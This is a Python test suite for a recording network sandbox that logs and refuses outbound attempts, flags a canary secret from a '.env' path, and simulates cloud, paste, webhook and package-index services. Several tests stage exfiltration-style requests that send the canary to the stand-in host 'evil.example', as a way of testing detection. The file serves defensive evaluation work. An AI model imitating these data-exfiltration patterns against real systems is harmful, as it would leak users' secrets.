"""The network without a sandbox: whatever callers do leaves its record, and never breaks what serves them."""

from __future__ import annotations

import asyncio
import gzip
import http.client
import json
import socket
import ssl
import time
from pathlib import Path
from typing import Any

import pytest

from net_kit import echoing, opened, read_all, say
from overeager.gateway.network.tunnel import Streams, dial_public
from overeager.model.service import Package, Route, Service

CANARY = "0ddba11c0ffee0123456789a"
SECRET = {"/home/user/project-x/.env": CANARY}
API = Service(
    hosts=("api.internal",),
    kind="json",
    port=1,
    base="/v1",
    collections={"users": ({"id": 1, "name": "ann"}, {"id": "b", "name": "bob"})},
    routes=(Route(path="/health", reply={"ok": True}), Route(method="POST", path="/jobs/{id}/retry", status=202)),
)


def ask(
    port: int, method: str, path: str, body: bytes | None = None, host: str = "api.internal", **headers: str
) -> tuple[int, bytes]:
    """One request on a connection of its own."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request(
            method, path, body, {"Host": f"{host}:{port}", **{k.replace("_", "-"): v for k, v in headers.items()}}
        )
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def test_collections_keep_state_and_tell_each_change(tmp_path: Path) -> None:
    with opened(tmp_path, [API]) as net:
        assert json.loads(ask(net.port, "GET", "/v1/users?name=ann")[1]) == [{"id": 1, "name": "ann"}]
        assert ask(net.port, "POST", "/v1/users", b'{"name":"cy"}')[0] == 201
        assert ask(net.port, "PATCH", "/v1/users/2", b'{"name":"cyd"}')[0] == 200
        assert ask(net.port, "PUT", "/v1/users/2", b'{"name":"cyd"}')[0] == 200
        assert ask(net.port, "DELETE", "/v1/users/b")[0] == 204
        assert ask(net.port, "DELETE", "/v1/users/b")[0] == 404
        assert ask(net.port, "GET", "/health") == (200, b'{"ok": true}\n')
        assert ask(net.port, "POST", "/jobs/7/retry")[0] == 202
        log, attempts = net.stop()
    changes = [change for one in attempts for change in one["changes"]]
    assert [(c["operation"], c["object"]) for c in changes] == [
        ("create", "api.internal/users/2"),
        ("edit", "api.internal/users/2"),
        ("delete", "api.internal/users/b"),
    ]
    assert changes[1]["before"] == {"id": 2, "name": "cy"}
    assert changes[1]["after"] == {"id": 2, "name": "cyd"}
    assert (log.truncated, log.misses) == ("", ())


@pytest.mark.parametrize(
    ("method", "path"),
    [("DELETE", "/v1/users"), ("GET", "/v1/users?page=2"), ("GET", "/v2/users"), ("OPTIONS", "/v1/users/1")],
)
def test_what_a_service_does_not_model_is_a_miss(tmp_path: Path, method: str, path: str) -> None:
    with opened(tmp_path, [API]) as net:
        assert ask(net.port, method, path)[0] == 404
        log, _ = net.stop()
    assert log.misses == (f"{method} api.internal{path.partition('?')[0]}",)


def test_a_request_for_an_unknown_host_is_recorded_refused_and_no_miss(tmp_path: Path) -> None:
    with opened(tmp_path, [API]) as net:
        assert ask(net.port, "POST", "/x?q=1", b"hello", host="evil.example")[0] == 403
        log, (attempt,) = net.stop()
    assert (attempt["host"], attempt["path"], attempt["body"], attempt["bytes"]) == (
        "evil.example",
        "/x?q=1",
        "hello",
        5,
    )
    assert (attempt["service"], attempt["status"], log.misses) == ("", 403, ())


def test_a_whole_address_as_target_is_handled_like_a_direct_request(tmp_path: Path) -> None:
    with opened(tmp_path, [API]) as net:
        target = f"http://api.internal:{net.port}/health"
        answer = say(net.port, f"GET {target} HTTP/1.1\r\nHost: other\r\nConnection: close\r\n\r\n".encode())
        _, (attempt,) = net.stop()
    assert answer.startswith(b"HTTP/1.1 200")
    assert (attempt["host"], attempt["path"]) == ("api.internal", "/health")


HEAD = b"POST /x HTTP/1.1\r\nHost: evil.example\r\n"


@pytest.mark.parametrize(
    ("sent", "kind", "body"),
    [
        (b"hello " + CANARY.encode(), "tcp", "hello"),
        (b"\x00\xff\x01garbage\r\n\r\n", "tcp", None),
        (b"GET / HTTP/1.1\r\nHost: evil", "tcp", "GET /"),
        (b"GET / HTTP/1.1\r\n\r\n", "tcp", "GET /"),
        (b"C", "tcp", "C"),
        (b"CONNECT", "tcp", "CONNECT"),
        (b"", "tcp", ""),
        (b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\n", "tcp", "GET /a"),
        (b"CONNECT nonsense\r\n\r\n\r\n", "connect", None),
        (b"CONNECT x.example:443 HTTP/1.1\r\n", "connect", None),
        (b"\x16\x03\x01nonsense", "tls", None),
        (b"\x16\x03", "tls", None),
        (HEAD + b"Content-Length: 10\r\n\r\nabc", "http", "abc"),
        (HEAD + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nzz\r\n", "http", "abc"),
        (HEAD + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", "http", "abc"),
        (HEAD + b"Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc", "http", "abc"),
        (HEAD + b"Expect: 100-continue\r\nContent-Length: 3\r\n\r\nabc", "http", "abc"),
    ],
)  # fmt: skip
def test_whatever_is_sent_leaves_its_record_and_breaks_nothing(
    tmp_path: Path, sent: bytes, kind: str, body: str | None
) -> None:
    with opened(tmp_path, [API], SECRET) as net:
        say(net.port, sent)
        assert ask(net.port, "GET", "/health")[0] == 200
        log, attempts = net.stop()
    assert log.truncated == ""
    assert [one["kind"] for one in attempts] == [kind, "http"]
    assert attempts[0]["bytes"] <= len(sent)
    assert body is None or attempts[0]["body"].startswith(body)
    if CANARY.encode() in sent:
        assert attempts[0]["sensitive"] == [["/home/user/project-x/.env", "plain"]]


def test_requests_in_one_go_and_a_half_one_behind_them_all_leave_records(tmp_path: Path) -> None:
    one = b"GET /health HTTP/1.1\r\nHost: api.internal\r\n\r\n"
    with opened(tmp_path, [API]) as net:
        say(net.port, one + one + b"POST /last HTT", patience=0.5, half=False)
        _, attempts = net.stop()
    assert [(a["kind"], a["path"]) for a in attempts] == [("http", "/health"), ("http", "/health"), ("tcp", "")]
    assert attempts[2]["body"] == "POST /last HTT"


@pytest.mark.parametrize("pause", [0.0, 0.2])
def test_what_is_sent_behind_a_request_that_said_it_was_all_is_recorded(tmp_path: Path, pause: float) -> None:
    with opened(tmp_path, canaries=SECRET) as net:
        with socket.create_connection(("127.0.0.1", net.port), timeout=5) as caller:
            caller.sendall(b"POST / HTTP/1.0\r\nHost: evil.example\r\n\r\n")
            time.sleep(pause)
            caller.sendall(CANARY.encode())
            caller.shutdown(socket.SHUT_WR)
            assert read_all(caller).startswith(b"HTTP/1.1 403")
        log, (request, behind) = net.stop()
    assert (request["kind"], request["status"]) == ("http", 403)
    assert (behind["kind"], behind["sensitive"]) == ("tcp", [["/home/user/project-x/.env", "plain"]])
    assert log.truncated == ""


def test_a_body_of_a_hundred_megabytes_is_measured_digested_searched_and_kept_in_part(tmp_path: Path) -> None:
    piece = b"x" * (1 << 20)
    with opened(tmp_path, canaries=SECRET) as net:
        with socket.create_connection(("127.0.0.1", net.port), timeout=60) as caller:
            caller.sendall(HEAD + b"Content-Length: %d\r\n\r\n" % (100 << 20))
            for _ in range(50):
                caller.sendall(piece)
            caller.sendall(CANARY.encode() + piece[len(CANARY) :])
            for _ in range(49):
                caller.sendall(piece)
            assert caller.recv(100).startswith(b"HTTP/1.1 403")
        log, (attempt,) = net.stop()
    assert (attempt["bytes"], len(attempt["body"]), attempt["cut"]) == (100 << 20, 64 << 10, (100 << 20) - (64 << 10))
    assert attempt["sensitive"] == [["/home/user/project-x/.env", "plain"]]
    assert log.truncated == ""
    assert log.member.stat().st_size < 100_000


def test_a_packed_body_is_searched_unpacked_and_a_bomb_does_no_harm(tmp_path: Path) -> None:
    bomb = gzip.compress(b"\0" * (200 << 20), 9)
    with opened(tmp_path, canaries=SECRET) as net:
        packed = gzip.compress(f"a={CANARY}".encode())
        ask(net.port, "POST", "/a", packed, host="evil.example", Content_Encoding="gzip")
        ask(net.port, "POST", "/b", bomb, host="evil.example", Content_Encoding="gzip")
        log, (first, second) = net.stop()
    assert (first["body"], first["sensitive"]) == (f"a={CANARY}", [["/home/user/project-x/.env", "plain"]])
    assert (second["bytes"], second["error"]) == (len(bomb), "too large when unpacked")
    assert log.truncated == ""


def test_callers_beyond_the_bound_are_cut_and_recorded(tmp_path: Path) -> None:
    with opened(tmp_path, [API]) as net:
        callers = [socket.create_connection(("127.0.0.1", net.port), timeout=5) for _ in range(257)]
        assert callers[-1].recv(1) == b""
        for caller in callers:
            caller.close()
        assert ask(net.port, "GET", "/health")[0] == 200
        log, attempts = net.stop()
    errors = [one["error"] for one in attempts]
    assert errors.count("more connections at once than are served") == 1
    assert errors.count("nothing was sent") == 256
    assert log.truncated == ""


def test_what_was_sent_just_before_the_end_is_taken_in(tmp_path: Path) -> None:
    with opened(tmp_path, canaries=SECRET) as net:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
            caller.sendto(
                bytes.fromhex("5b6d01000001000000000000") + b"\x03abc\x07example\0\0\x01\0\x01",
                ("127.0.0.1", net.names),
            )
        with socket.create_connection(("127.0.0.1", net.port)) as caller:
            caller.sendall(b"POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 24\r\n\r\n" + CANARY.encode())
        _, attempts = net.stop()
    assert sorted((one["kind"], one["host"]) for one in attempts) == [("dns", "abc.example"), ("http", "evil.example")]


def test_a_record_that_outgrows_its_room_says_so(tmp_path: Path) -> None:
    with opened(tmp_path) as net:
        net.network.house.record._room = 2000
        for _ in range(5):
            ask(net.port, "POST", "/", b"x" * 300, host="evil.example")
        log, attempts = net.stop()
    assert log.truncated == "more attempts to reach the network than are kept"
    assert 0 < len(attempts) < 5
    assert b'{"end"' not in log.member.read_bytes()


def test_a_tls_client_is_asked_for_its_name_and_refused(tmp_path: Path) -> None:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with opened(tmp_path) as net:
        with socket.create_connection(("127.0.0.1", net.port)) as caller, pytest.raises(ssl.SSLError, match="denied"):
            context.wrap_socket(caller, server_hostname="Evil.Example")
        _, (attempt,) = net.stop()
    assert (attempt["kind"], attempt["host"]) == ("tls", "evil.example")
    assert attempt["bytes"] > 200


def test_a_tunnel_leads_where_it_is_allowed_to_and_nowhere_else(tmp_path: Path) -> None:
    real = Service(hosts=("real.example",), kind="real", port=443)
    with echoing() as port:

        async def dial(host: str, wanted: int) -> Streams:
            assert (host, wanted) == ("real.example", 443)
            return await asyncio.open_connection("127.0.0.1", port)

        with opened(tmp_path, [real], SECRET, dial) as net:
            head = b"CONNECT real.example:443 HTTP/1.1\r\nHost: real.example:443\r\n\r\n"
            answer = say(net.port, head + CANARY.encode())
            refused = say(net.port, b"CONNECT real.example:22 HTTP/1.1\r\nHost: real.example:22\r\n\r\n")
            _, (through, stopped) = net.stop()
    assert answer == b"HTTP/1.1 200 Connection established\r\n\r\n" + CANARY.encode()
    assert refused.startswith(b"HTTP/1.1 403 Forbidden")
    assert (through["status"], through["bytes"], through["answered"]) == (200, len(head) + 24, 24)
    assert through["sensitive"] == [["/home/user/project-x/.env", "plain"]]
    assert (stopped["host"], stopped["port"], stopped["status"]) == ("real.example", 22, 403)


def test_a_tunnel_never_leads_into_our_own_net(tmp_path: Path) -> None:
    with pytest.raises(OSError, match="no public address"):
        asyncio.run(dial_public("localhost", 80))
    with echoing() as port, opened(tmp_path, [Service(hosts=("127.0.0.1",), kind="real", port=port)]) as net:
        answer = say(net.port, b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n" % port)
        _, (attempt,) = net.stop()
    assert answer.startswith(b"HTTP/1.1 502")
    assert attempt["status"] == 502


HOSTS = ("s.example",)
WORDS = b'{"text":"words"}'
OPS = Service(hosts=HOSTS, kind="chat", port=1, channels=("ops",))
SINKS = [
    (Service(hosts=HOSTS, kind="paste", port=1), "/", b"words", "pastes/"),
    (Service(hosts=HOSTS, kind="webhook", port=1), "/any", b"words", "deliveries/1"),
    (Service(hosts=HOSTS, kind="chat", port=1), "/services/T/B/x", WORDS, "messages/general/1"),
    (OPS, "/api/chat.postMessage", b"channel=%23ops&text=words", "messages/ops/1"),
]


@pytest.mark.parametrize(("service", "path", "body", "place"), SINKS)
def test_sinks_take_what_is_sent_to_them(tmp_path: Path, service: Service, path: str, body: bytes, place: str) -> None:
    with opened(tmp_path, [service]) as net:
        status, answer = ask(net.port, "POST", path, body, host="s.example")
        if service.kind == "paste":
            key = answer.decode().strip().rpartition("/")[2]
            assert ask(net.port, "GET", f"/{key}", host="s.example") == (200, b"words")
        log, attempts = net.stop()
    (change,) = attempts[0]["changes"]
    assert status in (200, 201)
    assert (change["operation"], change["object"].startswith(f"s.example/{place}")) == ("create", True)
    assert "words" in json.dumps(change["after"])
    assert log.misses == ()


def test_a_cloud_has_buckets_and_machines(tmp_path: Path) -> None:
    cloud = Service(
        hosts=("cloud.internal",),
        kind="cloud",
        port=1,
        buckets={"backups": {"db.sql": "create"}},
        instances=({"id": "i-1", "state": "running"},),
    )

    def cloudy(method: str, path: str, body: bytes | None = None) -> tuple[int, bytes]:
        return ask(net.port, method, path, body, host="cloud.internal")

    with opened(tmp_path, [cloud]) as net:
        assert cloudy("GET", "/backups/db.sql") == (200, b"create")
        assert b"<Key>db.sql</Key>" in cloudy("GET", "/backups?list-type=2")[1]
        assert cloudy("DELETE", "/backups")[0] == 409
        assert cloudy("PUT", "/backups/new", b"x")[0] == 200
        assert cloudy("DELETE", "/backups/db.sql")[0] == 204
        assert cloudy("GET", "/backups/db.sql")[0] == 404
        assert json.loads(cloudy("POST", "/v1/instances/i-1/terminate")[1])["state"] == "terminated"
        assert cloudy("POST", "/backups?delete")[0] == 404
        log, attempts = net.stop()
    changes = [(change["operation"], change["object"]) for one in attempts for change in one["changes"]]
    assert changes == [
        ("create", "cloud.internal/buckets/backups/new"),
        ("delete", "cloud.internal/buckets/backups/db.sql"),
        ("delete", "cloud.internal/instances/i-1"),
    ]
    assert log.misses == ("POST cloud.internal/backups",)


def test_a_package_is_the_same_bytes_each_time(tmp_path: Path) -> None:
    packages = tuple(Package(name="left", version="1.0.0", ecosystem=e, files={"a.js": "1"}) for e in ("pypi", "npm"))
    index = Service(hosts=("index.internal",), kind="package_index", port=1, packages=packages)
    seen: list[Any] = []
    for turn in ("one", "two"):
        (tmp_path / turn).mkdir()
        with opened(tmp_path / turn, [index]) as net:
            seen.append([
                ask(net.port, "GET", f"/files/{name}", host="index.internal")
                for name in ("left-1.0.0-py3-none-any.whl", "left-1.0.0.tgz")
            ])  # fmt: skip
    assert seen[0] == seen[1]
    assert [status for status, _ in seen[0]] == [200, 200]


def test_publishing_a_package_changes_the_index(tmp_path: Path) -> None:
    index = Service(hosts=("index.internal",), kind="package_index", port=1)
    document = {"name": "mine", "versions": {"2.0.0": {}}, "_attachments": {}}
    with opened(tmp_path, [index]) as net:
        assert ask(net.port, "PUT", "/mine", json.dumps(document).encode(), host="index.internal")[0] == 201
        _, (attempt,) = net.stop()
    assert [one["object"] for one in attempt["changes"]] == ["index.internal/packages/mine/2.0.0"]
